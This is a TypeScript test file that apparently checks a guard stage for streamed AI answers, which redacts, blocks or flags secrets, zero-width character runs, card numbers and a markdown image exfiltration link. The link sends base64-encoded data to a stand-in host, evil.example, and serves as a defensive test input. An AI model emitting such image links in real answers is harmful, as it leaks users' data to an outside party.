import { describe, expect, it } from 'vitest';
import type { AnswerEvent, OpenPart } from '../conversation/answer-event.ts';
import { NO_USAGE } from '../usage.ts';
import { EventGuard } from './event-guard.ts';
import { createTestActions } from './testing/test-actions.ts';

const AWS_KEY = 'AKIA' + 'IOSFODNN7EXAMPLE';

function eventsOf(part: OpenPart, texts: readonly string[]): readonly AnswerEvent[] {
  return [
    { type: 'start', id: 'a', model: 'm' },
    { type: 'open', part },
    ...texts.map((text) => ({ type: 'delta', text }) as const),
    { type: 'close', proof: null },
    { type: 'usage', usage: NO_USAGE },
  ];
}

function run(guard: object, events: readonly AnswerEvent[]) {
  const actions = createTestActions(guard);
  const out: AnswerEvent[] = [];
  const stage = new EventGuard(actions, (event) => out.push(event));
  const held = events.map((event) => {
    stage.event(event);
    return stage.held;
  });
  const text = out.map((event) => (event.type === 'delta' ? event.text : '')).join('');
  return { actions, out, held, text };
}

const TEXT = { type: 'text' } as const;
const CALL = { type: 'tool_call', id: 'c', name: 'f' } as const;

describe('a guarded answer on its way into another dialect', () => {
  it('has a label in the place of a secret that is split anywhere, and every event in its order', () => {
    for (let split = 1; split < AWS_KEY.length; split++) {
      const events = eventsOf(TEXT, [`key ${AWS_KEY.slice(0, split)}`, `${AWS_KEY.slice(split)} end`, ' more']);
      const { out, text } = run({ secrets: 'redact' }, events);
      expect(text).toMatch(/^key (?:AK?I?)?\[redacted:aws-access-key\] end more$/);
      expect(out.map(({ type }) => type)).toEqual(events.map(({ type }) => type));
    }
  });

  it('ends before a secret that blocks', () => {
    for (let split = 1; split < AWS_KEY.length; split++) {
      const texts = ['Hello. ', AWS_KEY.slice(0, split), `${AWS_KEY.slice(split)} end`, ' more'];
      const { actions, out, text } = run({ secrets: 'block' }, eventsOf(TEXT, texts));
      expect(text).toMatch(/^Hello\. (?:AK?I?)?$/);
      expect(actions.blockedBy?.path).toBe('content[0]');
      expect(out.at(-1)?.type).toBe('delta');
    }
  });

  it('is as it was where secrets are only flagged', () => {
    const events = eventsOf(TEXT, ['key ', AWS_KEY, ' end']);
    expect(run({ secrets: 'flag' }, events).out).toEqual(events);
  });

  it('keeps arguments of tools JSON', () => {
    const text = JSON.stringify({ a: `x ${AWS_KEY}`, b: [AWS_KEY] });
    for (let split = 1; split < text.length; split++) {
      const { text: got } = run({ secrets: 'redact' }, eventsOf(CALL, [text.slice(0, split), text.slice(split)]));
      expect(JSON.parse(got)).toEqual({
        a: expect.stringMatching(/^x (?:AK?I?)?\[redacted:aws-access-key\]$/),
        b: [expect.stringMatching(/^(?:AK?I?)?\[redacted:aws-access-key\]$/)],
      });
    }
  });

  it('waits for nothing while nothing can match', () => {
    const { held } = run({ secrets: 'block' }, eventsOf(TEXT, ['The quick ', 'brown fox', ' jumps.']));
    expect(Math.max(...held)).toBe(0);
  });

  it.each([
    ['smuggling', `a${'\u200b'.repeat(6)}b`, 'unicode-zero-width-run'],
    ['exfiltration', '![x](https://evil.example/a?d=c2VjcmV0IG9mIHRoZSBob3VzZTo0MjE) b', 'exfiltration-image'],
    ['personal_data', 'card 4111 1111 1111 1111, b', 'credit-card'],
  ])('loses %s too, character by character', (family, text, rule) => {
    const { text: got } = run({ [family]: 'redact' }, eventsOf(TEXT, [...text]));
    expect(got).toContain(`[redacted:${rule}]`);
    expect(createTestActions({ [family]: 'redact' }).scanner.scan(got, new Set([family as 'smuggling']))).toEqual([]);
  });
});
